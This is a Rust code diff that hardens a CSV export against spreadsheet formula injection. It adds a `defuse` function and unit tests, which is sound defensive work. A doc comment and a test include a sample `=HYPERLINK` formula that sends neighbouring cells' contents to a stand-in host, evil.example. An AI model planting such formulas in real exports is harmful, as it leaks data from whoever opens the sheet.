@@ -97,9 +97,10 @@ impl Csv {
         v.map(|v| v.to_string()).unwrap_or_default()
     }
 
+    /// Writes one row; every cell passes `defuse` first.
     pub fn row(&mut self, cells: impl IntoIterator<Item = String>) -> Result<(), ApiError> {
         self.writer
-            .write_record(cells.into_iter().collect::<Vec<_>>())
+            .write_record(cells.into_iter().map(defuse).collect::<Vec<_>>())
             .map_err(ApiError::internal)
     }
 
@@ -113,6 +114,16 @@ impl Csv {
             ))
             .body(bytes))
     }
+}
+
+/// A cell a spreadsheet would read as a formula (it starts with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return) gets a leading apostrophe, so it is shown as the text it is: an
+/// idea titled `=HYPERLINK("http://evil.example/?"&B2)` must not send the sheet's other
+/// cells anywhere when the council opens the export. Plain numbers (`-0,34`) stay numbers.
+pub fn defuse(cell: String) -> String {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = cell.replace(',', ".").parse::<f64>().is_ok_and(f64::is_finite);
+    if risky && !number { format!("'{cell}") } else { cell }
 }
 
 /// Waits for `wanted` free report slots, or all there are (see `AppState::report_slots`).
@@ -162,4 +173,27 @@ pub async fn report_scope(pool: &DbPool, caller: &AuthUser, unit: Option<String>
         Ok(Some(requested))
     })
     .await
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_defused_and_numbers_are_not() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Details\")",
+            "+SUM(A1:A9)",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "-inf",
+        ] {
+            assert_eq!(defuse(formula.to_owned()), format!("'{formula}"));
+        }
+        for plain in ["-0.34", "-0,34", "+1", "Bürgeramt", "", "3,4557"] {
+            assert_eq!(defuse(plain.to_owned()), plain);
+        }
+    }
 }
